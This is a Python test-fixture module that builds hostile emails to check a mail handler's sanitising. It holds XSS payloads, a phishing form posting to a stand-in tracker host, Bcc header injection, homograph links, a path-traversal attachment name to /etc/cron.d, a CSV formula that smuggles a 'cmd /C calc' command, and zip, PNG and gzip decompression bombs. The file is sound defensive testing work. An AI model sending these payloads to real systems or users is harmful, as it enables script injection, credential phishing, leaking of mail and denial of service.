"""Mails that mean harm: one for each thing that a mail can try. Each says BENIGN somewhere, which must be readable."""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from email.message import EmailMessage

BENIGN = "The kettle leaks from the bottom."
OUTSIDE = "http://tracker.example"


def html(body: str) -> bytes:
    """A mail of HTML."""
    mail = _head()
    mail.set_content(BENIGN)
    mail.add_alternative(f"<html><body><p>{BENIGN}</p>{body}</body></html>", subtype="html")
    return mail.as_bytes()


def attached(*files: tuple[str, str, bytes]) -> bytes:
    """A mail with files: type, name, content."""
    mail = _head()
    mail.set_content(BENIGN)
    for kind, name, content in files:
        maintype, _slash, subtype = kind.partition("/")
        mail.add_attachment(content, maintype=maintype, subtype=subtype, filename=name)
    return mail.as_bytes()


def _head() -> EmailMessage:
    mail = EmailMessage()
    mail["From"], mail["To"] = "Carl <carl@example.org>", "help@kettle.example"
    return mail


def picture_bomb() -> bytes:
    """A PNG of 30,000 by 30,000 points in a few kilobytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    side = 30_000
    rows = zlib.compressobj(9)
    packed = b"".join(rows.compress(bytes(1 + side // 8)) for _row in range(side)) + rows.flush()
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def zip_bomb() -> bytes:
    """200 MB of zeros in a fifth of a megabyte."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.txt", bytes(200_000_000))
    return packed.getvalue()


def many_parts() -> bytes:
    """5,000 parts."""
    parts = b"".join(b"--b\r\nContent-Type: text/plain\r\n\r\npart %d\r\n" % one for one in range(5000))
    return (
        b"From: Carl <carl@example.org>\r\nTo: help@kettle.example\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\n"
        + BENIGN.encode()
        + b"\r\n"
        + parts
        + b"--b--\r\n"
    )


def many_recipients() -> bytes:
    """10,000 people in copy."""
    cc = b",\r\n ".join(b"p%d@example.org" % one for one in range(10_000))
    return (
        b"From: Carl <carl@example.org>\r\nTo: help@kettle.example\r\nCc: "
        + cc
        + b"\r\n\r\n"
        + BENIGN.encode()
    )


def injected_headers() -> bytes:
    """Names and subjects that begin lines of their own, here and in the answer."""
    return (
        b"From: =?utf-8?q?Carl=0D=0ABcc=3A_evil=40tracker=2Eexample?= <carl@example.org>\r\n"
        b"To: help@kettle.example\r\nSubject: =?utf-8?q?Hello=0D=0ABcc=3A_evil=40tracker=2Eexample?=\r\n\r\n"
        + BENIGN.encode()
    )


MAILS: dict[str, Callable[[], bytes]] = {
    "script": lambda: html(
        "<script>window.pwned=1;alert(1)</script><img src=x onerror='window.pwned=2;alert(2)'>"
        "<svg/onload=alert(3)><a href='javascript:alert(4)'>Track my parcel</a><body onload=alert(5)>"
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(6)></style></mglyph></table></mtext></math>"
    ),
    "css": lambda: html(
        f"<style>*{{display:none!important}}body{{background:url({OUTSIDE}/css)}}</style>"
        f'<link rel=stylesheet href={OUTSIDE}/sheet.css><div style="position:fixed;inset:0;z-index:2147483647;'
        f"background:url('{OUTSIDE}/inline')\">You are signed out.</div>"
        "<p style='font-size:3000px;margin:-9999px'>large</p>"
    ),
    "svg": lambda: html(
        "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script><image href='http://tracker.example/svg'/>"
        "<foreignObject><iframe src='http://tracker.example/frame'></iframe></foreignObject></svg>"
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">"
    ),
    "form": lambda: html(
        f"<form action={OUTSIDE}/login method=post><input name=password type=password><button>Sign in</button></form>"
        f"<meta http-equiv=refresh content='0;url={OUTSIDE}/gone'><base href={OUTSIDE}/>"
        f"<iframe src={OUTSIDE}/frame></iframe><object data={OUTSIDE}/object></object>"
        f"<embed src={OUTSIDE}/embed><video src={OUTSIDE}/video autoplay></video>"
    ),
    "tracking": lambda: html(
        f"<img src={OUTSIDE}/pixel width=1 height=1><img srcset='{OUTSIDE}/set 1x'><picture><source srcset={OUTSIDE}/p>"
        f"<img src={OUTSIDE}/q></picture><table background={OUTSIDE}/table><tr><td>x</table>"
        f"<audio src={OUTSIDE}/a autoplay><link rel=prefetch href={OUTSIDE}/prefetch><a ping={OUTSIDE}/ping href=https://example.org>x</a>"
    ),
    "homograph": lambda: html(
        "<a href='https://xn--80ak6aa92e.example/'>https://www.bank.example/</a> "
        "<a href='https://bаnk.example/'>Your bank</a><a href='data:text/html,<script>alert(1)</script>'>Open</a>"
    ),
    "names": lambda: attached(
        ("text/plain", "../../../../etc/cron.d/evil", b"x"),
        ("text/html", "letter.html", b"<script>alert(1)</script>"),
        ("image/svg+xml", "logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ("text/plain", "invoice\u202efdp.exe", b"x"),
        ("text/csv", "=cmd|' /C calc'!A0.csv", b"=1+1"),
        ("text/plain", 'a"; filename="b.html', b"x"),
        ("application/octet-stream", "x" * 400 + ".txt", b"x"),
    ),
    "bombs": lambda: attached(
        ("image/png", "plan.png", picture_bomb()),
        ("application/zip", "photos.zip", zip_bomb()),
        ("application/gzip", "log.gz", gzip.compress(bytes(20_000_000))),
    ),
    "parts": many_parts,
    "recipients": many_recipients,
    "headers": injected_headers,
}


def mail_named(name: str) -> bytes:
    """One of them, with a subject and a number of its own."""
    raw = MAILS[name]()
    own = f"Message-ID: <{name}@example.org>\r\n".encode()
    return own + (raw if b"\nSubject:" in raw[:2000] else f"Subject: Hostile: {name}\r\n".encode() + raw)
